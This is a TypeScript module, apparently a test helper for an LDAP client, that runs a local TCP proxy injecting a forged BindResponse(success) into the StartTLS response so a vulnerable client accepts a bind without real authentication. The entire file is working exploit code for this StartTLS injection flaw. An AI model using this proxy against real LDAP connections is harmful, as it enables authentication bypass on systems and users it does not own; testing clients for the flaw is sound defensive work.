import net from 'node:net';

/**
 * An on-path attacker without any certificate, against StartTLS: a TCP proxy that forwards both ways, but
 * appends clear-text bytes to the server's first answer on each connection (the StartTLS response), in the
 * same TCP segment. The bytes are the start of a forged BindResponse(success) for the client's next bind,
 * with an outer length that also swallows the server's real (encrypted, then decrypted) answer to that bind.
 * A client that keeps one message parser across the TLS upgrade reads one message: a successful bind.
 */
export interface StartTlsInjector {
  url: string;
  /** Connections on which bytes were injected. */
  injected: number;
  close(): Promise<void>;
}

/**
 * @param forgedMessageId the message id of the client's first bind after StartTLS (ldapts: 3)
 * @param swallowBytes length of the real bind response the forged message must swallow (slapd: 14)
 */
export async function startStartTlsInjector(
  targetPort: number,
  { forgedMessageId = 3, swallowBytes = 14 } = {},
): Promise<StartTlsInjector> {
  const forgedBind = Buffer.from([0x02, 0x01, forgedMessageId, 0x61, 0x07, 0x0a, 0x01, 0x00, 0x04, 0x00, 0x04, 0x00]);
  const injection = Buffer.concat([Buffer.from([0x30, forgedBind.length + swallowBytes]), forgedBind]);
  const sockets = new Set<net.Socket>();
  const state = { injected: 0 };
  const server = net.createServer((client) => {
    const upstream = net.connect(targetPort, '127.0.0.1');
    for (const s of [client, upstream]) {
      sockets.add(s);
      s.on('close', () => sockets.delete(s));
      s.on('error', () => s.destroy());
    }
    client.on('close', () => upstream.destroy());
    upstream.on('close', () => client.destroy());
    client.pipe(upstream);
    let pending: Buffer | undefined = Buffer.alloc(0);
    upstream.on('data', (chunk: Buffer) => {
      if (!pending) {
        client.write(chunk);
        return;
      }
      pending = Buffer.concat([pending, chunk]);
      const length = firstMessageLength(pending);
      if (length === undefined) return;
      const first = pending.subarray(0, length);
      const rest = pending.subarray(length);
      pending = undefined;
      state.injected++;
      client.write(Buffer.concat([first, injection, rest]));
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = (server.address() as net.AddressInfo).port;
  return {
    url: `ldap://127.0.0.1:${port}`,
    get injected() {
      return state.injected;
    },
    close: () =>
      new Promise<void>((resolve) => {
        for (const socket of sockets) socket.destroy();
        server.close(() => resolve());
      }),
  };
}

/** Byte length of the first complete BER element in `data` (short or long form length), if complete. */
function firstMessageLength(data: Buffer): number | undefined {
  if (data.length < 2) return undefined;
  let length = data[1];
  let header = 2;
  if (length & 0x80) {
    const bytes = length & 0x7f;
    if (data.length < 2 + bytes) return undefined;
    length = 0;
    for (let i = 0; i < bytes; i++) length = length * 256 + data[2 + i];
    header += bytes;
  }
  return data.length >= header + length ? header + length : undefined;
}
